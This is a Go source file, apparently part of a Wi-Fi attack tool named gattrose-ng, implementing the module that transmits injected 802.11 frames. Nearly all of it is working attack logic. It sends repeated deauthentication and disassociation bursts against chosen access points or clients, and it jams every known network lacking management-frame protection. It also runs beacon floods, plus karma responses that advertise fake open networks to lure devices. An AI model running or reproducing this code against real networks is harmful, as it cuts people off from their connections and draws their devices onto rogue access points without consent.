// Package actuator owns the radio transmit path. Attack tasks never
// touch the radio handle; they record intents here and a single
// goroutine performs every transmission, retuning as needed.
package actuator

import (
	"hash/fnv"
	"log/slog"
	"net"
	"sync"
	"time"

	"github.com/gattrose/gattrose-ng/internal/adapters/radio/inject"
	"github.com/gattrose/gattrose-ng/internal/core/domain"
	"github.com/gattrose/gattrose-ng/internal/core/ports"
	"github.com/gattrose/gattrose-ng/internal/telemetry"
)

const (
	// DefaultTick is the base transmit-loop cadence. Jammer, beacon
	// flood and karma responses fire every tick; deauth bursts every
	// deauthEveryTicks.
	DefaultTick = 50 * time.Millisecond

	// DefaultBurstSize is the frame count of one deauth burst.
	DefaultBurstSize = 8

	deauthEveryTicks = 4
	karmaPerTick     = 4
	karmaQueueSize   = 32

	// stationLeavingReason is sent in the client->AP direction of a
	// unicast burst; APs honor "station is leaving" readily.
	stationLeavingReason = 3
)

// DeauthIntent is one standing attack target.
type DeauthIntent struct {
	BSSID   string
	Channel int
	Reason  uint16

	// ClientMAC selects unicast frames against one station; empty
	// means broadcast against every station of the AP.
	ClientMAC string

	// OnBurst, when set, is called after each transmitted burst.
	OnBurst func()
}

// BeaconSpec is one frame of a beacon flood.
type BeaconSpec struct {
	SSID string

	// BSSID nil means a fresh random address per frame.
	BSSID net.HardwareAddr

	// Channel 0 transmits on whatever the radio is tuned to.
	Channel int

	Protected bool
}

// BeaconSource yields the next flood frame; ok false skips the tick.
type BeaconSource func() (spec BeaconSpec, ok bool)

// Config tunes the transmit loop. Zero values select defaults.
type Config struct {
	Tick      time.Duration
	BurstSize int
}

// Actuator is the sole writer to the radio TX path.
type Actuator struct {
	logger   *slog.Logger
	radio    ports.Radio
	registry ports.NetworkRegistry

	tick      time.Duration
	burstSize int

	mu         sync.Mutex
	deauths    map[string]DeauthIntent
	jamming    bool
	jamNext    int
	beacons    BeaconSource
	pausedTill time.Time

	karmaQueue chan string

	seq uint16

	stopChan chan struct{}
	stopOnce sync.Once
}

// New creates the actuator and starts its transmit loop.
func New(logger *slog.Logger, radio ports.Radio, registry ports.NetworkRegistry, cfg Config) *Actuator {
	if cfg.Tick <= 0 {
		cfg.Tick = DefaultTick
	}
	if cfg.BurstSize <= 0 {
		cfg.BurstSize = DefaultBurstSize
	}
	a := &Actuator{
		logger:     logger.With(slog.String("component", "actuator")),
		radio:      radio,
		registry:   registry,
		tick:       cfg.Tick,
		burstSize:  cfg.BurstSize,
		deauths:    make(map[string]DeauthIntent),
		karmaQueue: make(chan string, karmaQueueSize),
		stopChan:   make(chan struct{}),
	}
	go a.run()
	return a
}

// Close stops the transmit loop. Idempotent.
func (a *Actuator) Close() {
	a.stopOnce.Do(func() { close(a.stopChan) })
}

// AddDeauth registers a standing deauth intent under id.
func (a *Actuator) AddDeauth(id string, intent DeauthIntent) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.deauths[id] = intent
}

// RemoveDeauth releases the intent registered under id. Idempotent.
func (a *Actuator) RemoveDeauth(id string) {
	a.mu.Lock()
	defer a.mu.Unlock()
	delete(a.deauths, id)
}

// DeauthCount reports the number of standing intents.
func (a *Actuator) DeauthCount() int {
	a.mu.Lock()
	defer a.mu.Unlock()
	return len(a.deauths)
}

// SetJammer toggles round-robin bursts across all known non-PMF networks.
func (a *Actuator) SetJammer(on bool) {
	a.mu.Lock()
	defer a.mu.Unlock()
	if a.jamming != on {
		a.logger.Info("jammer toggled", slog.Bool("on", on))
	}
	a.jamming = on
}

// Jamming reports whether the jammer is running.
func (a *Actuator) Jamming() bool {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.jamming
}

// SetBeaconSource installs the flood generator; nil stops the flood.
func (a *Actuator) SetBeaconSource(src BeaconSource) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.beacons = src
}

// QueueBeacon requests one open-network advertisement for ssid, the
// karma answer to a directed probe. Drops when the queue is full.
func (a *Actuator) QueueBeacon(ssid string) {
	select {
	case a.karmaQueue <- ssid:
	default:
		telemetry.InjectionErrors.WithLabelValues("karma").Inc()
	}
}

// Pause holds all transmissions for d, on top of whatever pause is
// already in effect. Used while the radio is lent out to a scan or to
// the soft AP.
func (a *Actuator) Pause(d time.Duration) {
	a.mu.Lock()
	defer a.mu.Unlock()
	until := time.Now().Add(d)
	if until.After(a.pausedTill) {
		a.pausedTill = until
	}
}

// StopAttacks drops every standing intent: deauth targets, jammer,
// beacon flood and queued karma answers. Idempotent.
func (a *Actuator) StopAttacks() {
	a.mu.Lock()
	a.deauths = make(map[string]DeauthIntent)
	a.jamming = false
	a.beacons = nil
	a.mu.Unlock()

	for {
		select {
		case <-a.karmaQueue:
		default:
			return
		}
	}
}

func (a *Actuator) run() {
	ticker := time.NewTicker(a.tick)
	defer ticker.Stop()

	n := 0
	for {
		select {
		case <-a.stopChan:
			return
		case <-ticker.C:
			n++
			if a.paused() {
				continue
			}
			a.karmaTick()
			a.beaconTick()
			a.jamTick()
			if n%deauthEveryTicks == 0 {
				a.deauthTick()
			}
		}
	}
}

func (a *Actuator) paused() bool {
	a.mu.Lock()
	defer a.mu.Unlock()
	return time.Now().Before(a.pausedTill)
}

func (a *Actuator) karmaTick() {
	for i := 0; i < karmaPerTick; i++ {
		select {
		case ssid := <-a.karmaQueue:
			frame, err := inject.Beacon(ssid, derivedBSSID(ssid), a.radio.Channel(), false, a.nextSeq())
			a.transmit("karma", frame, err)
		default:
			return
		}
	}
}

func (a *Actuator) beaconTick() {
	a.mu.Lock()
	src := a.beacons
	a.mu.Unlock()
	if src == nil {
		return
	}
	spec, ok := src()
	if !ok {
		return
	}

	bssid := spec.BSSID
	if bssid == nil {
		bssid = inject.RandomMAC()
	}
	if spec.Channel > 0 {
		a.retune(spec.Channel)
	}
	frame, err := inject.Beacon(spec.SSID, bssid, channelOr(spec.Channel, a.radio.Channel()), spec.Protected, a.nextSeq())
	a.transmit("beacon", frame, err)
}

func (a *Actuator) jamTick() {
	a.mu.Lock()
	jamming := a.jamming
	next := a.jamNext
	a.mu.Unlock()
	if !jamming {
		return
	}

	nets := a.registry.Networks()
	targets := nets[:0:0]
	for _, n := range nets {
		if !n.PMF {
			targets = append(targets, n)
		}
	}
	if len(targets) == 0 {
		return
	}

	target := targets[next%len(targets)]
	a.mu.Lock()
	a.jamNext = (next + 1) % len(targets)
	a.mu.Unlock()

	bssid, err := net.ParseMAC(target.BSSID)
	if err != nil {
		return
	}
	a.retune(target.Channel)
	a.burst(bssid, nil, domain.DefaultDeauthReason)
}

func (a *Actuator) deauthTick() {
	a.mu.Lock()
	intents := make([]DeauthIntent, 0, len(a.deauths))
	for _, it := range a.deauths {
		intents = append(intents, it)
	}
	a.mu.Unlock()

	for _, it := range intents {
		bssid, err := net.ParseMAC(it.BSSID)
		if err != nil {
			continue
		}
		var client net.HardwareAddr
		if it.ClientMAC != "" {
			if client, err = net.ParseMAC(it.ClientMAC); err != nil {
				continue
			}
		}
		a.retune(it.Channel)
		a.burst(bssid, client, it.Reason)
		if it.OnBurst != nil {
			it.OnBurst()
		}
	}
}

// burst transmits one deauth burst against bssid. client nil hits the
// broadcast address; otherwise each round sends the AP->client frame
// plus the client->AP "station leaving" counterpart. Every fourth round
// substitutes disassociation, some stations honor one subtype only.
func (a *Actuator) burst(bssid, client net.HardwareAddr, reason uint16) {
	for j := 0; j < a.burstSize; j++ {
		useDisassoc := j > 0 && (j+1)%4 == 0

		target := client
		if target == nil {
			target = inject.Broadcast
		}

		var frame []byte
		var err error
		kind := "deauth"
		if useDisassoc {
			kind = "disassoc"
			frame, err = inject.Disassoc(target, bssid, bssid, reason, a.nextSeq())
		} else {
			frame, err = inject.Deauth(target, bssid, bssid, reason, a.nextSeq())
		}
		a.transmit(kind, frame, err)

		if client != nil {
			frame, err = inject.Deauth(bssid, client, bssid, stationLeavingReason, a.nextSeq())
			a.transmit("deauth", frame, err)
		}
	}
}

func (a *Actuator) retune(channel int) {
	if channel <= 0 || a.radio.Channel() == channel {
		return
	}
	if err := a.radio.SetChannel(channel); err != nil {
		a.logger.Debug("retune failed", slog.Int("channel", channel), slog.String("error", err.Error()))
	}
}

func (a *Actuator) transmit(kind string, frame []byte, err error) {
	if err != nil {
		telemetry.InjectionErrors.WithLabelValues(kind).Inc()
		return
	}
	if err := a.radio.Transmit(frame); err != nil {
		telemetry.InjectionErrors.WithLabelValues(kind).Inc()
		a.logger.Debug("transmit failed", slog.String("kind", kind), slog.String("error", err.Error()))
		return
	}
	telemetry.InjectionsTotal.WithLabelValues(kind).Inc()
}

func (a *Actuator) nextSeq() uint16 {
	a.seq = (a.seq + 1) & 0x0FFF
	return a.seq
}

func channelOr(ch, fallback int) int {
	if ch > 0 {
		return ch
	}
	return fallback
}

// derivedBSSID maps an SSID to a stable locally administered address so
// a lured client keeps seeing the same network.
func derivedBSSID(ssid string) net.HardwareAddr {
	h := fnv.New64a()
	h.Write([]byte(ssid))
	v := h.Sum64()
	mac := net.HardwareAddr{
		byte(v), byte(v >> 8), byte(v >> 16),
		byte(v >> 24), byte(v >> 32), byte(v >> 40),
	}
	mac[0] = (mac[0] | 0x02) & 0xfe
	return mac
}
